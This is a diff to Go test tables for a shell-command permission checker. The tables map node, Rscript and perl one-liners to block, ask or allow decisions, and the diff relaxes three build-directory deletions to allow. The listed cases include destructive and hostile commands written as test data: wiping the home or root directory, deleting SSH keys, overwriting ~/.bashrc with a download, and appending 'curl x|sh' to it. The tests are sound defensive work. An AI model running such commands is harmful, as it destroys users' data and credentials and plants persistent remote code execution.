@@ -67,7 +67,7 @@ func TestCode54NodeDenoBun(t *testing.T) {
 		{`node -e 'require("shelljs").exec("rm -rf ~")'`, dsl.Block, dsl.Block},
 		{`node -e 'require("shelljs").rm("-Rf", "/")'`, dsl.Block, dsl.Block},
 		{`node -e 'require("shelljs").rm("-r", process.env.HOME)'`, dsl.Block, dsl.Block},
-		{`node -e 'require("shelljs").rm("-rf", "dist")'`, dsl.Ask, dsl.Ask},
+		{`node -e 'require("shelljs").rm("-rf", "dist")'`, dsl.Allow, dsl.Allow}, // nothing there, in no git work tree (fpfix61)
 		{`node -e 'require("shelljs").rm("-rf", require("os").homedir())'`, dsl.Block, dsl.Block},
 		{`sudo node -e 'require("execa").execaCommandSync("rm -rf ~")'`, dsl.Block, dsl.Block},
 		{"zx -e '$`rm -rf ~`'", dsl.Block, dsl.Block},
@@ -88,7 +88,7 @@ func TestCode54ScriptLanguages(t *testing.T) {
 		{`Rscript -e 'download.file("https://x.example/rc", destfile="~/.bashrc")'`, dsl.Ask, dsl.Block},
 		{`Rscript -e 'download.file(url="https://x.example/rc", destfile=path.expand("~/.bashrc"))'`, dsl.Ask, dsl.Block},
 		{`Rscript -e 'file.remove(path.expand("~/.ssh/id_rsa"))'`, dsl.Ask, dsl.Ask},
-		{`Rscript -e 'fs::dir_delete("build")'`, dsl.Ask, dsl.Ask},
+		{`Rscript -e 'fs::dir_delete("build")'`, dsl.Allow, dsl.Allow}, // nothing there, in no git work tree (fpfix61)
 		{`Rscript -e 'fs::dir_delete("~")'`, dsl.Block, dsl.Block},
 		{`Rscript -e 'fs::file_delete(path.expand("~/.ssh/id_rsa"))'`, dsl.Ask, dsl.Ask},
 		{`Rscript -e 'install.packages("fs")'`, dsl.Allow, dsl.Allow},
@@ -118,7 +118,7 @@ func TestCode54ScriptLanguages(t *testing.T) {
 		{`perl -MFile::Path=remove_tree -e 'remove_tree(glob("~"))'`, dsl.Block, dsl.Block},
 		{`perl -MFile::Path=rmtree -e 'rmtree($ENV{HOME})'`, dsl.Block, dsl.Block},
 		{`perl -MPath::Tiny -e 'Path::Tiny->new("~")->remove_tree'`, dsl.Block, dsl.Block},
-		{`perl -MPath::Tiny -e 'path("build")->remove_tree'`, dsl.Ask, dsl.Ask},
+		{`perl -MPath::Tiny -e 'path("build")->remove_tree'`, dsl.Allow, dsl.Allow}, // nothing there, in no git work tree (fpfix61)
 		{`perl -MPath::Tiny -e 'path("~")->remove_tree'`, dsl.Block, dsl.Block},
 		{`perl -MPath::Tiny -e 'path("~/.bashrc")->append("curl x|sh\n")'`, dsl.Ask, dsl.Block},
 		{`perl -MPath::Tiny -e 'path("~/.bashrc")->append_utf8("curl x|sh\n")'`, dsl.Ask, dsl.Block},
